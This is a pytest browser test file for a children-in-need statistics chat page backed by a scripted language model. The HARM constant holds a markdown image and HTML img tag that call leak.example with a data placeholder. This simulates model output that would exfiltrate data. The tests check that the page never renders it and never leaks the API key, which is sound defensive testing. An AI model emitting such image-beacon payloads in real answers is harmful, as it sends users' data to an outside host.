"""The page with a scripted model, in Debian's Chromium: our answer first, then the freer one; both readings; nothing a model writes is followed
or drawn; the rules of every view."""

import json
import sys
import time
from pathlib import Path

import pytest
from rules import keeps_every_rule
from waiting import at_rest, settled

from cin_narrative.messages import message

pytestmark = pytest.mark.browser
ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(ROOT / "tests" / "model"))
from scripted_server import ScriptedServer, completion  # noqa: E402

WAIT = 30_000
HARM = " ![x](http://leak.example/{F1}.png) <img src=http://leak.example/y.png> It fell by 12%."


class Script:
    """What the model does next."""

    seconds, harms, asks = 1.0, False, ()

    def play(self, request, sent):
        given = json.loads(sent["messages"][-1]["content"])
        if "claims" not in given:  # it is to read: a reading that does not hold costs nothing
            request.answer(completion(json.dumps({"asks": self.asks})))
            return
        time.sleep(self.seconds)
        text = " ".join(given["claims"]).replace("{A1} had {F1} {P1}, a", "{P1}, {A1} had {F1}, which was a")
        request.answer(completion(json.dumps({"paragraph": text + HARM if self.harms else text})))


@pytest.fixture(scope="module")
def scripted(starter_store, tmp_path_factory, chromium, serve):
    """(address, script): the page with a scripted model switched on."""
    pytest.importorskip("langchain_openai", reason='pip install -c constraints.txt -e ".[llm]"')
    folder, script = tmp_path_factory.mktemp("model-page"), Script()
    with ScriptedServer(script.play) as model:
        settings = {"CIN_NARRATIVE_STORE": str(starter_store), "CIN_NARRATIVE_FEEDBACK": str(folder / "f.jsonl"),
                    "CIN_NARRATIVE_DRAFTS": str(folder / "drafts"), "CIN_NARRATIVE_MODEL": "scripted", "CIN_NARRATIVE_MODEL_URL": model.url,
                    "CIN_NARRATIVE_MODEL_TIMEOUT": "60", "CIN_NARRATIVE_MODEL_LOG": str(folder / "log.jsonl"), "OPENAI_API_KEY": "sk-browser-secret"}  # fmt: skip
        with serve(settings) as address:
            yield address, script


@pytest.fixture
def tab(scripted, chromium):
    """(page, script, host): the page opened in a browser."""
    address, script = scripted
    context = chromium.new_context(viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    page.set_default_timeout(WAIT)
    page.hosts = set()
    page.on("request", lambda request: page.hosts.add(request.url.split("/")[2]))
    page.goto(f"{address}/ask")
    yield page, script, address.removeprefix("http://")
    context.close()


def ask(page, question, answer):
    box = page.get_by_test_id("stChatInput").get_by_role("textbox")
    box.fill(question)
    page.keyboard.press("Enter")
    page.get_by_text(answer).last.wait_for()
    settled(page)
    page.get_by_role("button", name="Put this more freely").last.click()


def test_the_freer_answer_takes_the_place_of_ours_and_a_harmful_one_never_does(tab):
    page, script, own = tab
    ask(page, "How many children in need did Derby have at 31 March 2016?", "Derby had 2,342")
    page.get_by_text("is putting this more freely").wait_for()
    page.get_by_text("Derby had 2,342").first.wait_for()
    page.get_by_text("At 31 March 2016, Derby had 2,342").wait_for()
    script.harms = True
    ask(page, "How many referrals did Derby have in 2016?", "Derby had 3,582")
    page.get_by_text("wording was not used, because").wait_for()
    page.get_by_text("What was sent to the language model").last.click()
    page.get_by_text("leak.example").first.wait_for()
    assert at_rest(page, page.locator("img[src*='leak.example'], a[href*='leak.example']").count) == 0
    script.harms, script.seconds = False, 20.0
    ask(page, "How many referrals did Derby have in 2015?", "in the year ending 31 March 2015")
    page.get_by_text("is putting this more freely").wait_for()
    page.get_by_role("button", name="Cancel").click()
    page.get_by_text("was called off").wait_for()
    assert page.hosts == {own}
    assert "sk-browser-secret" not in at_rest(page, page.content)


NEED = {"indicator": "children_in_need_at_31_march", "words": "children in need", "metric": "count"}
PLAIN, RADAR = "How many children in need did Derby have at 31 March 2015?", "How many kids were on the radar in Derby in 2016?"
RISE = "Has the number of referrals in Derby gone up since 2014?"
SAME = {"words": PLAIN, "ask": "value", "cue": "How many", "measures": [NEED], "areas": [{"words": "Derby"}], "periods": [{"words": "31 March 2015"}]}
ONLY_THE_MODELS = {**SAME, "words": RADAR, "measures": [{**NEED, "words": "kids were on the radar"}], "periods": [{"words": "2016"}]}


def alike(page, script):
    """Both read the question alike, and our answer stands in freer words; the log of what was asked."""
    put(page, script, PLAIN, SAME)
    page.get_by_text(message("screen.read_alike")).wait_for()
    settled(page)
    page.get_by_role("button", name=message("screen.put_freely")).click()
    page.get_by_text("At 31 March 2015, Derby had 2,444").wait_for()
    page.locator(".st-key-model-settings summary").click()
    page.get_by_text(message("screen.show_log")).click()
    page.get_by_role("button", name=message("screen.download_log")).wait_for()


def beside_ours(page, script):
    """The model's reading beside ours, and the choice between them."""
    put(page, script, RISE, {"words": RISE, "ask": "trend", "measures": [{**NEED, "indicator": "referrals", "words": "referrals"}],
                             "areas": [{"words": "Derby"}], "periods": [{"words": "since 2014"}]})  # fmt: skip
    page.get_by_text("The language model's reading:").wait_for()
    page.get_by_text("can be read in two ways").wait_for()


def chosen(page, script):
    """What only the model could read, and was chosen; figures are the store's."""
    put(page, script, RADAR, ONLY_THE_MODELS)
    page.get_by_text("The language model's reading:").wait_for()
    settled(page)
    page.get_by_role("button", name="number of children in need", exact=False).first.click()
    page.get_by_text(message("screen.by_a_model")).wait_for()


def put(page, script, question, ask) -> None:
    """Ask it of a model that reads it so."""
    script.asks, script.seconds, script.harms = [ask], 0.0, False
    page.get_by_text("Examples of questions").first.wait_for()
    settled(page)
    page.get_by_test_id("stChatInput").get_by_role("textbox").fill(question)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name=question).wait_for()


@pytest.mark.parametrize("state", [beside_ours, *(pytest.param(one, marks=pytest.mark.slow) for one in (alike, chosen))])
def test_every_rule_holds_where_a_model_reads_too(scripted, watched, axe, state):
    address, script = scripted
    page = watched(address)
    page.goto(f"{address}/ask?area=Derby&year=2016")
    state(page, script)
    keeps_every_rule(page, address, axe)


@pytest.mark.slow
def test_every_rule_holds_on_a_report_that_a_model_may_put_more_freely(scripted, watched, axe):
    address, _ = scripted
    page = watched(address)
    page.goto(f"{address}/report?area=Derby&year=2016")
    page.get_by_role("heading", name="Data loaded").wait_for(state="attached")
    settled(page)
    keeps_every_rule(page, address, axe)
